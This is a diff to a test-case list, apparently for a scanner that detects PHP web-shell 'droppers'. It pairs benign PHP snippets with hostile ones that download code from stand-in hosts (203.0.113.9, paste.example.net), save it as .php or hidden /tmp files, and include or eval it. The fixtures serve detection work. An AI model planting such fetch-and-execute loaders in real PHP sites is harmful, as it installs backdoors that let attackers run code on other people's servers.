@@ -81,6 +81,22 @@ CASES = [
      "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
      "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
      "eval('return ' . var_export($defaults, true) . ';'); $page = fetch_page('https://example.org/');"),
+    # The "shell summoner": fetch code kept as text elsewhere, save it, include the saved copy.
+    ("remote_code_staged",
+     "<?php $src = array('https://paste.example.net/raw/Zx81Qa', '/tmp/.sess_cache');\n"
+     "if (!is_file($src[1])) { $h = fopen($src[1], 'w'); fwrite($h, fetch($src[0])); fclose($h); }\n"
+     "include $src[1];",
+     "<?php $info = fetch('https://updates.example.org/plugin/info.json'); $h = fopen($cache, 'w');\n"
+     "fwrite($h, $info); fclose($h); include $template;"),
+    ("remote_code_staged",
+     "<?php $u = 'https://203.0.113.9/files/mini.txt'; file_put_contents('cache.php', file_get_contents($u));",
+     "<?php $u = 'https://example.org/docs/changelog.txt'; file_put_contents($dir . '/changelog.html', file_get_contents($u));"),
+    ("remote_code_staged",
+     "<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n"
+     "$code = get('https://203.0.113.9/tools/m.php'); $h = fopen('../m.php', 'w'); fwrite($h, $code);",
+     # An add-on writing its own generated configuration and registering with its vendor's API.
+     "<?php $conf = <<<EOT\n<?php define('api', 'https://api.example.com/client.php'); ?>\nEOT;\n"
+     "file_put_contents(__DIR__ . '/conf/conf.php', $conf); $res = file_get_contents($register_url);"),
 ]
 
 
